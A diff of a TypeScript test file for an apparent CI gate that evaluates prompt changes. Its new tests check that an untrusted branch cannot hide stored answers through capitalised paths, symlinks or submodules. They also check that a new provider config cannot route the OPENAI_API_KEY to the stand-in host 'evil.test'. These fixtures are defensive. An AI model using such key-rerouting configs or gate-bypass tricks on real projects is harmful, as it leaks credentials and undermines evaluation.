@@ -9,13 +9,14 @@ import { inMemoryFiles } from '../fakes/in-memory-files.js';
 import { inMemoryGit } from '../fakes/in-memory-git.js';
 import { ScriptedGateway } from '../fakes/scripted-gateway.js';
 import { ScriptedModel } from '../fakes/scripted-model.js';
+import type { FileSpec } from '../fixtures/commit-spec.js';
 import { shippedSyntax } from '../fixtures/shipped-syntax.js';
 import { editedFile, triageProject } from '../fixtures/triage-project.js';
 
 type Files = Record<string, string>;
 type Attack = {
   readonly base?: Files;
-  readonly head: Files;
+  readonly head: Record<string, FileSpec>;
   readonly delete?: string[];
   readonly isUntrusted?: boolean;
 };
@@ -36,6 +37,10 @@ async function verdictOf({ base = {}, head, delete: removed = [], isUntrusted = 
     { name: 'main', files: { ...project, ...base } },
     { name: 'head', files: head, delete: removed },
   ]);
+  return verdictIn(git, isUntrusted);
+}
+
+async function verdictIn(git: ReturnType<typeof inMemoryGit>, isUntrustedHead: boolean) {
   const model = new ScriptedModel(() => 'billing');
   const gateway = new ScriptedGateway(model);
   const ports = {
@@ -48,7 +53,7 @@ async function verdictOf({ base = {}, head, delete: removed = [], isUntrusted = 
     syntax: shippedSyntax,
   };
   const changeSet = await detect(ports, { policy: 'main', head: { revision: 'head' }, folder: 'run' });
-  const request = { folder: 'run', suites: undefined, isUntrustedHead: isUntrusted, concurrency: 4 };
+  const request = { folder: 'run', suites: undefined, isUntrustedHead, concurrency: 4 };
   const evaluation = await evaluate(ports, request);
   return { ...judge(changeSet, evaluation), calls: model.calls, evaluation, changeSet };
 }
@@ -56,6 +61,8 @@ async function verdictOf({ base = {}, head, delete: removed = [], isUntrusted = 
 const prompt = triageProject['prompts/triage.prompt.yml'] ?? '';
 const harmless = prompt.replace('one label', 'a label');
 const harmful = prompt.replace('billing or shipping', 'anything');
+
+const harmlessEdit: Files = { 'prompts/triage.prompt.yml': harmless };
 
 const retargetedTo = (name: string): Files => editedFile('lanegate.yml', 'prompt: triage,', `prompt: ${name},`);
 
@@ -131,9 +138,18 @@ describe('a change cannot be waved through', () => {
     ]);
   });
 
-  test('by answers that somebody committed', async () => {
-    const head = { 'prompts/triage.prompt.yml': harmless, '.lanegate/answers/a.jsonl': '{}\n' };
-    await expect(verdictOf({ head })).rejects.toThrow('stored answers are in the repository');
+  test.each<[string, Record<string, FileSpec>]>([
+    ['answers', { '.lanegate/answers/a.jsonl': '{}\n' }],
+    ['answers in capitals, which many disks take for the same', { 'a/.LANEGATE/answers/a.jsonl': '{}\n' }],
+    ['a link to answers', { 'evals/stash/answers/a.jsonl': '{}\n', '.lanegate': { link: 'evals/stash' } }],
+    ['a repository of answers', { '.lanegate': { submodule: '1'.repeat(40) } }],
+    ['breakers that are open', { 'run/gateway-state.json': '{}\n' }],
+    ['breakers, where a run starts deeper', { 'services/run/gateway-state.json': '{}\n' }],
+    ['a link to breakers', { 'evals/stash/gateway-state.json': '{}\n', run: { link: 'evals/stash' } }],
+  ])('by %s that somebody committed', async (_, files) => {
+    await expect(verdictOf({ head: { ...harmlessEdit, ...files } })).rejects.toThrow(
+      'stored answers are in the repository',
+    );
   });
 });
 
@@ -181,4 +197,51 @@ describe('an untrusted head', () => {
     expect(verdict).toMatchObject({ verdict: 'inconclusive', calls: [] });
     expect(verdict.reason).toContain('another target');
   });
+});
+
+describe('a provider that only head has', () => {
+  const withProvider = (provider: string): Files => ({
+    'lanegate.yml': (project['lanegate.yml'] ?? '')
+      .replace('models:', `providers: { own: ${provider} }\nmodels:`)
+      .replace('provider: embedded', 'provider: own'),
+  });
+
+  test.each([
+    ['elsewhere', '{ api: openai, base_url: "https://evil.test/v1", key_env: OPENAI_API_KEY }'],
+    ['elsewhere, in small letters', '{ api: openai, base_url: "https://evil.test/v1", key_env: openai_api_key }'],
+    [
+      'by template',
+      '{ api: http, url: "https://evil.test", key_env: OPENAI_API_KEY, headers: { x: "{{key}}" }, body: "{{parameters}}", response: { content: a } }',
+    ],
+    ['of another API', '{ api: anthropic, base_url: "https://evil.test", key_env: OPENAI_API_KEY }'],
+    [
+      'through a proxy of its own',
+      '{ api: openai, base_url: "https://api.openai.com/v1", proxy: "http://evil.test", key_env: OPENAI_API_KEY }',
+    ],
+  ])('is not given the key of another, %s', async (_, provider) => {
+    await expect(verdictOf({ head: withProvider(provider) })).rejects.toThrow(
+      'the provider `own` is new in this change and names the key OPENAI_API_KEY of `openai`',
+    );
+  });
+
+  test.each([
+    ['a key of its own', '{ api: openai, base_url: "https://own.test/v1", key_env: OWN_KEY }'],
+    ['the key of where it asks', '{ api: openai, base_url: "https://api.openai.com/v2", key_env: OPENAI_API_KEY }'],
+  ])('may name %s', async (_, provider) => {
+    const { calls } = await verdictOf({ head: withProvider(provider) });
+    expect(calls.some(({ providerName }) => providerName === 'own')).toBe(true);
+  });
+});
+
+test('an untrusted head cannot have a provider asked that the target branch has dropped', async () => {
+  const dropped = (project['lanegate.yml'] ?? '')
+    .replace('models:', 'providers: { old: { api: openai, base_url: "https://gone.test/v1" } }\nmodels:')
+    .replace('provider: embedded', 'provider: old');
+  const git = inMemoryGit([
+    { name: 'old', files: { ...project, 'lanegate.yml': dropped } },
+    { name: 'main', files: { 'lanegate.yml': project['lanegate.yml'] ?? '' } },
+    { name: 'head', parents: ['old'], files: { ...harmlessEdit, 'lanegate.yml': project['lanegate.yml'] ?? '' } },
+  ]);
+  const { calls } = await verdictIn(git, true);
+  expect(calls.map(({ provider }) => provider.api)).not.toContain('openai');
 });
